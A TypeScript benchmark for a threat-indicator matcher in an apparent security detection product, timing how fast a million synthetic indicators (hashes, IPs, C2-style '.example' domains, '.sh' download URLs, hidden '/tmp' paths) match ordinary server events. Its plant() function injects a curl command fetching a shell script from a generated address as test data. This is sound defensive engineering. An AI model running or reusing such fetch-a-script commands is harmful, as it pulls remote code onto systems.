/**
 * Promise: a million indicators are matched in less than a millisecond an event (p99) and in less than 300 MB.
 *
 * Indicators of every type in the proportions of public feeds, and the events of an ordinary server; one event in a
 * thousand names an indicator. Memory is what the process has more with the indicators than before, after a collection.
 * Each event is judged by itself and timed; the throughput stands beside that of writing the same events as JSON, since
 * a figure alone tells more of the machine than of the code.
 *
 *   npm run bench -- indicators [--indicators 1000000] [--events 200000] [--save]
 */
import { createHash } from 'node:crypto'
import { parseArgs } from 'node:util'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { systemClock } from '@vedette/base'
import { IndicatorMatcher, type MatchedIndicator } from '@vedette/detect'
import type { Event } from '@vedette/model'
import { quantile, report } from './figures.ts'
import { ordinaryEvents } from './load/events.ts'

const { values: flags } = parseArgs({
  options: {
    indicators: { type: 'string', default: '1000000' },
    events: { type: 'string', default: '200000' },
    save: { type: 'boolean' },
  },
})
const wanted = Number(flags.indicators)
const total = Number(flags.events)
setFlagsFromString('--expose-gc')
const collect = runInNewContext('gc') as () => void

const events = ordinaryEvents('00000000000000bb', 0, total, Date.now())
for (let i = 500; i < total; i += 1000) plant(i)

collect()
const before = process.memoryUsage().rss
const loadStart = performance.now()
const matcher = new IndicatorMatcher({ clock: systemClock, seed: 12_345 })
for (let i = 0; i < wanted; i += 1) matcher.add(indicator(i))
const loadSeconds = (performance.now() - loadStart) / 1000
collect()
const rssMiB = (process.memoryUsage().rss - before) / 2 ** 20

// Warm: the first thousands run before the compiler has seen them.
matcher.evaluate(events.slice(0, 20_000))
const times = new Float64Array(total)
let detections = 0
for (let i = 0; i < total; i += 1) {
  const start = performance.now()
  detections += matcher.evaluate([events[i] as Event]).length
  times[i] = performance.now() - start
}
const ratios: number[] = []
let rate = 0
for (let round = 0; round < 5; round += 1) {
  const judgeStart = performance.now()
  matcher.evaluate(events)
  const judgeMs = performance.now() - judgeStart
  const writeStart = performance.now()
  let length = 0
  for (const event of events) length += JSON.stringify(event).length
  const writeMs = performance.now() - writeStart
  if (length === 0) throw new Error('nothing was written')
  ratios.push(writeMs / judgeMs)
  rate = Math.max(rate, (total / judgeMs) * 1000)
}
const long = longest()
const sorted = [...times]
const figures = {
  indicators: matcher.size,
  events: total,
  detections,
  expectedDetections: Math.floor((total + 499) / 1000),
  loadedPerSecond: Math.round(wanted / loadSeconds),
  memoryMiB: Math.round(rssMiB),
  tablesMiB: Math.round(matcher.bytes / 2 ** 20),
  p50Microseconds: round(quantile(sorted, 0.5) * 1000),
  p99Microseconds: round(quantile(sorted, 0.99) * 1000),
  p999Microseconds: round(quantile(sorted, 0.999) * 1000),
  longestLineMs: round(long),
  eventsPerSecond: Math.round(rate),
  timesFasterThanWritingJson: round(quantile(ratios, 0.5)),
}
report('indicators', figures)
if (quantile(sorted, 0.99) >= 1 || rssMiB >= 300 || detections < figures.expectedDetections)
  process.exitCode = 1

/** 45 % hashes, 25 % addresses, 20 % domains, 9 % URLs, the rest ranges, paths and names. */
function indicator(i: number): MatchedIndicator {
  const base = {
    number: i + 1,
    source: `feed:${i % 7}`,
    confidence: 50 + (i % 5) * 10,
    severity: 'high',
    tlp: 'green',
    validFrom: 1_700_000_000_000,
    tags: [`family-${i % 300}`],
    techniques: [],
  } as const
  const share = i % 1000
  if (share < 450) {
    return { ...base, type: 'sha256', value: createHash('sha256').update(String(i)).digest('hex') }
  }
  if (share < 700) return { ...base, type: 'ipv4', value: address(i) }
  if (share < 900) {
    return {
      ...base,
      type: share % 2 === 0 ? 'domain' : 'domain_suffix',
      value: `c2-${i.toString(36)}.bad-${i % 977}.example`,
    }
  }
  if (share < 990) return { ...base, type: 'url', value: `http://${address(i)}:8080/dl/${i.toString(36)}.sh` }
  if (share < 995) return { ...base, type: 'cidr', value: `2001:db8:${(i & 0xffff).toString(16)}::/48` }
  if (share < 999) return { ...base, type: 'path', value: `/tmp/.x${i}/run` }
  return { ...base, type: 'path', value: `/var/tmp/.cache-${i}/*.so` }
}

function address(i: number): string {
  return `${100 + (i >>> 20)}.${(i >>> 12) & 255}.${(i >>> 4) & 255}.${(i & 15) + 1}`
}

/** Makes an event name an indicator. */
function plant(i: number): void {
  const event = events[i]
  const line = `curl -s http://${address(700_900 % wanted)}:8080/dl/${(700_900 % wanted).toString(36)}.sh`
  if (event?.kind === 'process') {
    events[i] = { ...event, activity: 'launch', process: { ...event.process, cmd_line: line } }
  } else if (event?.kind === 'network') {
    events[i] = { ...event, activity: 'open', dst_endpoint: { ip: address(450), port: 443 } }
  } else if (event?.kind === 'file') {
    events[i] = { ...event, file: { path: `/tmp/.x${995 % wanted}/run`, name: 'run' } }
  } else if (event !== undefined) {
    events[i] = { ...event, raw: line, message: line }
  }
}

/** The longest line that an event may have, full of words that all have to be looked up. */
function longest(): number {
  const message = 'a.example 198.51.100.7 http://b.example/x /tmp/y '.repeat(1400).slice(0, 65_536)
  const event: Event = {
    id: 'longest' as Event['id'],
    time: Date.now(),
    device: { uid: 'bench' as Event['device']['uid'], hostname: 'bench' },
    severity_id: 1,
    metadata: { version: '1.8.0', log_provider: 'file', logged_time: Date.now() },
    kind: 'log',
    class_uid: 0,
    message,
    path: '/var/log/syslog',
  }
  const runs = Array.from({ length: 50 }, () => {
    const start = performance.now()
    matcher.evaluate([event])
    return performance.now() - start
  })
  return quantile(runs, 0.5)
}

function round(value: number): number {
  return Math.round(value * 10) / 10
}
